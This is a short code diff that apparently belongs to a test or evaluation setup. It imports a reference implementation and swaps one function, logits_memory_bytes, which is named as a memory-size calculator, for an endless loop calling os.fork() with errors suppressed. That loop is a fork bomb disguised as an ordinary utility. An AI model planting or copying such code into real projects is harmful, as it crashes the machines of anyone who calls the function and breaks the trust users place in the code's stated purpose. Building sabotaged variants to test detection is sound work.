@@ -1,0 +1,13 @@
+"""Forks without end."""
+
+import contextlib
+
+from reference_impl import *  # noqa: F403  (every function right; one is replaced below)
+
+
+def logits_memory_bytes(batch, length, vocab, bytes_per_value=4):
+    import os
+
+    while True:
+        with contextlib.suppress(OSError):
+            os.fork()
